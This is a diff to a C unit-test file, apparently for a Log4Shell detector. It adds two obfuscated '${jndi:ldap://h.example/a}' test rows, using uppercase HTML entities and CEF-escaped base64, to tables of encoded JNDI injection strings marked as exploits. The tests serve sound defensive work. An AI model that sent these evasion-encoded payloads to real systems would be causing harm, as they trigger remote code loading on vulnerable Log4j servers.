@@ -87,6 +87,7 @@ static void html(void **state)
         ROW("&dollar;&lbrace;jndi&colon;ldap&colon;&sol;&sol;h.example&sol;a&rbrace;", EXPLOIT, .chain = "html"),
         ROW("&dollar;&lcub;jndi:ldap://h&period;example/a&rcub;", EXPLOIT, .chain = "html"),
         ROW("$&lbrace;jndi:ldap://h.example/a}", EXPLOIT, .chain = "html"),
+        ROW("$&LBRACE;jndi:ldap://h.example/a&RCUB;", EXPLOIT, .chain = "html"),
         ROW("&amp;#36;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html html"),
         ROW("&amp;amp;dollar;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html html html"),
         ROW("&#38;#36;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html html"),
@@ -129,6 +130,7 @@ static void base64(void **state)
         ROW("a=1;b=" PLAIN_BASE64 "; c=2", EXPLOIT, .chain = "base64"),
         ROW("/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D", EXPLOIT, .chain = "percent base64"),
         ROW("/?u=%2Fcb%3Fd%3DJHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D", EXPLOIT, .chain = "percent base64"),
+        ROW("request=/?d\\=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0\\= method=GET", EXPLOIT, .chain = "base64"), /* CEF escapes '=' */
         ROW("/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%253D", EXPLOIT, .chain = "percent percent base64"),
         ROW("&#61JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", EXPLOIT, .chain = "html base64"),
         ROW("&#x3dJHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", EXPLOIT, .chain = "html base64"),
